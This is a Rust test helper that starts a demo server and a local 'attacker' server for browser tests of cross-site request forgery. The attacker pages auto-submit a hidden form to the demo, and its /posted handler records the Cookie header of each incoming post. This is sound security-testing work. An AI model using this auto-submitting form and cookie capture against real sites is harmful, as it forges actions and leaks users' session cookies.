//! The servers that the browser talks to: the demo, and the page of an attacker.

use std::path::Path;
use std::process::Command;
use std::sync::Arc;
use std::sync::mpsc::{self, Receiver, Sender};
use std::thread::{self, JoinHandle};

use tiny_http::{Header, Method, Request, Response, Server};

use crate::Result;
use crate::serving_program::ServingProgram;

/// Starts the demo.
pub(super) fn start_demo(program: &Path, database: &Path) -> Result<ServingProgram> {
    let mut command = Command::new(program);
    command.args(["sqlite", "127.0.0.1:0"]).arg(database);
    ServingProgram::start(command)
}

/// A server with pages that post a form as soon as they are opened. Asked for as `localhost` it is
/// another site than the demo; as `127.0.0.1` it is the same, because the port is no part of a
/// site.
pub(super) struct Attacker {
    server: Arc<Server>,
    thread: Option<JoinHandle<()>>,
    pub(super) port: u16,
    /// The Cookie header of each form that was posted to the attacker.
    cookies: Receiver<String>,
}

impl Attacker {
    pub(super) fn start(demo: &str) -> Result<Self> {
        let server = Server::http("127.0.0.1:0").map_err(|error| error.to_string())?;
        let port = server.server_addr().to_ip().ok_or("the server has no port")?.port();
        let server = Arc::new(server);
        let (sender, cookies) = mpsc::channel();
        let thread = thread::Builder::new().name("attacker".to_owned()).spawn({
            let (server, demo) = (Arc::clone(&server), demo.to_owned());
            move || {
                for request in server.incoming_requests() {
                    // A browser that went away in between is seen by the check that waits for it.
                    let _ = answer(request, &demo, port, &sender);
                }
            }
        })?;
        Ok(Self { server, thread: Some(thread), port, cookies })
    }

    /// The Cookie header of the form that was posted last.
    pub(super) fn cookie(&self) -> Result<String> {
        let cookie = self.cookies.try_iter().last();
        cookie.ok_or_else(|| "the form has not reached the attacker".into())
    }
}

impl Drop for Attacker {
    fn drop(&mut self) {
        self.server.unblock();
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

fn answer(request: Request, demo: &str, port: u16, cookies: &Sender<String>) -> Result {
    let page = match (request.method(), request.url()) {
        (Method::Get, "/post-to-demo") => form(&format!("{demo}/note")),
        (Method::Get, "/post-to-attacker") => form(&format!("http://127.0.0.1:{port}/posted")),
        (Method::Post, "/posted") => {
            let headers = request.headers().iter().filter(|header| header.field.equiv("Cookie"));
            cookies.send(headers.map(|header| header.value.to_string()).collect())?;
            "Thank you.".to_owned()
        }
        _ => return Ok(request.respond(Response::empty(404))?),
    };
    let html = Header::from_bytes("Content-Type", "text/html; charset=utf-8");
    let html = html.map_err(|()| "the header is not one")?;
    Ok(request.respond(Response::from_string(page).with_header(html))?)
}

fn form(action: &str) -> String {
    format!(
        "<!DOCTYPE html><title>Attack</title>
        <form method=post action='{action}'><input name=note value=stolen></form>
        <script>document.forms[0].submit()</script>"
    )
}
